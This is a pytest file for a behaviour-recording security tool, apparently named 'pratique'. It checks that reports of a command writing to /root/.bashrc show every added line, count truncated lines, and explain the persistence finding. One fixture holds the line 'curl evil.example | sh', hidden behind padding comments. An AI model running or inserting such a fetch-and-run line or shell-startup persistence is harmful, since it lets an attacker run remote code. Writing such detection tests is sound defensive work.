"""The details of a report are in full, and count what the screen counts."""

from __future__ import annotations

import io
import re

import pytest
from rich.console import Console

from pratique.cli import details, screen
from pratique.events import Event
from pratique.policy.model import Decide, Location, Method, Policy
from pratique.policy.score import Finding, judge
from pratique.recording import Component, Effect, Process, Recording, Share
from pratique.report import Report, make
from pratique.subject import Subject


@pytest.fixture(autouse=True)
def read_by_nobody_in_particular(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("HOME", "/home/reader")


def report(added: str, *, lines: tuple[str, ...] = (), command: tuple[str, ...] = ("sh", "setup.sh")) -> Report:
    """One new file, created and written, of which `lines` can be left out one by one."""
    recording = Recording(
        id="7f3a0000",
        subject=Subject(path="/bin/sh", name="sh", kind="command", command=command),
        home="/root",
        components=(Component(name="sh"),),
        processes=(Process(id=3, program="/bin/sh", arguments=command, component="sh"),),
        events=(
            Event("file.create", seq=1, process=3, path="/root/.bashrc"),
            Event("file.write", seq=2, process=3, effect=0, path="/root/.bashrc", added=added, removed=""),
        ),
        effects=(
            Effect(id=0, type="file", op="add", path="/root/.bashrc", component="sh", pieces=len(lines)),
            *(
                Effect(
                    id=number, type="lines", op="modify", path="/root/.bashrc", component="sh",
                    shares=(Share(file=0, pieces=frozenset({number})),), details={"added": line, "removed": ""},
                )
                for number, line in enumerate(lines, 1)
            ),
        ),
    )  # fmt: skip
    finding = Finding(
        action="shell-startup", title="Runs itself", weight=100, component="sh", evidence=(1, 2),
        where=Location("p", 1), because=("ATT&CK T1546.004", "nobody asked for it"),
    )  # fmt: skip
    verdict = judge([finding], components=["sh"], method=Method(), threshold=100, decide=Decide())
    return make(recording, Policy(name="baseline", version="1"), verdict)


def brief(shown: Report) -> str:
    out = io.StringIO()
    screen.show(shown, Console(file=out, width=100))
    return out.getvalue()


def full(shown: Report) -> str:
    return "".join(f"{line}\n" for line in details.lines(shown))


def test_a_line_behind_many_others_is_shown():
    padding = "\n".join(f"# comment {number}" for number in range(400))
    assert "    + curl evil.example | sh\n" in full(report(f"{padding}\ncurl evil.example | sh"))
    short_lines = "\n" * 49_000  # as many as an event of the shipped observers holds
    assert "    + evil\n" in full(report(f"{short_lines}evil"))


def test_what_is_too_much_to_show_is_counted():
    text = full(report("x\n" * 60_000))
    assert "    ... 10000 more lines; `pratique show 7f3a0000 --json` has them" in text


def test_why_the_policy_finds_it_undesirable_is_said():
    text = full(report("a"))
    assert "Runs itself  (shell-startup, p:1)\n  because ATT&CK T1546.004\n  because nobody asked for it\n" in text


def test_a_tab_is_room_and_not_a_strange_character():
    assert "    + if: x = 1\n" in full(report("if:\tx = 1"))


def test_a_new_file_that_was_written_is_named_once_and_counted_as_on_the_screen():
    shown = report("a\nb", lines=("a", "b"))
    assert brief(shown).count("/root/.bashrc") == 1
    assert "1 change\n" in brief(shown)
    text = full(shown)
    assert "sh: 1 change\n" in text
    assert "  in these:\n    ~ lines /root/.bashrc\n        + a\n    ~ lines /root/.bashrc\n        + b\n" in text
    assert text.count("  /root/.bashrc  +2 lines") == 1


def test_the_process_an_action_names_can_be_found_in_the_list():
    text = full(report("a", command=("sh", "-c", "echo a; b")))
    (number,) = set(re.findall(r"by process (\d+): sh -c 'echo a; b'", text))
    assert f"\nprocesses\n  {number}  sh -c 'echo a; b'  [sh]\n" in text
